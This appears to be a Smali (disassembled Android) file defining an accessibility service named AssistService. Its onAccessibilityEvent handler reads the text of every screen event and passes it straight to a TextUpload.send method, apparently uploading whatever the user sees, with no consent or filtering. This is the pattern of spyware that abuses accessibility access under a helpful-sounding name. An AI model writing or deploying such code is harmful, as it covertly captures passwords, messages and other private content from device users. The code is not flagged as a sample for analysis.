# SPDX-License-Identifier: Apache-2.0
# Takes the text shown on the screen.
.class public Lcom/example/haixing/AssistService;
.super Landroid/accessibilityservice/AccessibilityService;
.source "AssistService.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/accessibilityservice/AccessibilityService;-><init>()V
    return-void
.end method

.method public onAccessibilityEvent(Landroid/view/accessibility/AccessibilityEvent;)V
    .locals 1
    invoke-virtual {p1}, Landroid/view/accessibility/AccessibilityEvent;->getText()Ljava/util/List;
    move-result-object v0
    invoke-virtual {v0}, Ljava/lang/Object;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/example/haixing/TextUpload;->send(Ljava/lang/String;)V
    return-void
.end method

.method public onInterrupt()V
    .registers 1
    return-void
.end method
